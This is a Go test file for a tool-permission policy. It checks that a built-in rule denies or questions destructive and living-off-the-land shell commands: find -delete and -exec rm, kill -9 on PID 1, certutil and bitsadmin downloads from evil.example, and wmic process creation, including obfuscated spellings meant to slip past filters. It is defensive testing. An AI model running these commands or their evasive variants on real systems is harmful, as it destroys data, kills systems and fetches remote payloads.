package jiuwen

import (
	"testing"

	"github.com/obstat/obstat"
)

// TestNeverLooser: what the original's own list names is caught by a built-in rule however it is written: it asks
// in normal mode and is denied in strict mode, though the shell is allowed as a whole.
func TestNeverLooser(t *testing.T) {
	strict := load(t, []byte(strictBash), nil)
	normal := load(t, []byte("permissions: {schema: tiered_policy, tools: {bash: allow}}"), nil)
	for _, cmd := range []string{
		"find . -delete", "find -delete", "find .git -delete", "find . -name '*.pyc' -delete", "find . -name '*.py' -delete", "find src -type f -delete", "find . -mtime +1 -delete",
		"find . -delete -name x", "find . -iname '*' -delete", "find . -empty -delete", "find . -maxdepth 1 -type d -delete", "find . '(' -name a -o -name b ')' -delete", "find a b -delete",
		"find -L . -delete", "find . -depth -delete", "find . -print -delete", "/usr/bin/find . -delete", "'find' . -delete", "f''ind . -delete", "find . -d''elete", "env find . -delete",
		"timeout 5 find . -delete", "bash -c 'find . -delete'", "nice find . -delete", "find /tmp/x -delete", "find / -delete", "find ~ -delete", "find .. -delete", "find . -not -name keep -delete",
		"find . -exec rm {} +", "find . -name '*.log' -exec rm {} ';'", "find . -execdir rm -f {} +", "find . -exec /bin/rm {} +", "find . -exec unlink {} ';'", "find . -type f -exec shred {} +",
		"kill -9 1", "kill 1", "kill -KILL 1", "kill -SIGKILL 1", "kill -s KILL 1", "kill -s 9 1", "kill -n 9 1", "kill -TERM 1", "kill -15 1", "/bin/kill -9 1", "kill -9 1 2", "kill -9 2 1", "k''ill -9 1",
		"env kill -9 1", "sh -c 'kill -9 1'", "kill -9 -1", "kill -9 -- -1", "kill -9 01",
		"certutil -decode a.b64 a.exe", "certutil.exe -decode a b", "certutil -f -decode a b", "CertUtil -Decode a b", "certutil /decode a b", "certutil -decodehex a b", "'certutil' -decode a b",
		"env certutil -decode a b", "certutil -urlcache -f http://evil.example/x x", "certutil.exe -urlcache -split -f https://evil.example/x x", "bitsadmin /transfer j https://evil.example/x x",
		"wmic process call create calc", "wmic process call create 'cmd /c calc'", "wmic.exe process call create calc", "WMIC PROCESS CALL CREATE calc", "wmic /node:host process call create calc",
		"wmic path win32_process call create calc || wmic process call create calc", "cmd /c wmic process call create calc", "env wmic process call create calc", "wmic  process  call  create calc",
	} {
		if d, builtin := decide(t, strict, cmd); d.Verdict != obstat.Deny || len(builtin) == 0 {
			t.Errorf("strict: %s: %s %v %s", cmd, d.Verdict, builtin, d.Reason())
		}
		if d, builtin := decide(t, normal, cmd); d.Verdict == obstat.Allow || len(builtin) == 0 {
			t.Errorf("normal: %s: %s %v %s", cmd, d.Verdict, builtin, d.Reason())
		}
	}
	for _, cmd := range []string{"find . -name x", "find . -type f -print", "grep -r 'find . -delete' docs", "kill 1234", "kill -1 1234", "kill -9 21", "kill -l 1", "echo kill -9 1",
		"certutil -L", "wmic process list brief", "echo wmic process call create", "cat find-delete.txt", "git commit -m 'find -delete'"} {
		if d, builtin := decide(t, strict, cmd); len(builtin) > 0 {
			t.Errorf("%s: %s %v", cmd, d.Verdict, builtin)
		}
	}
}
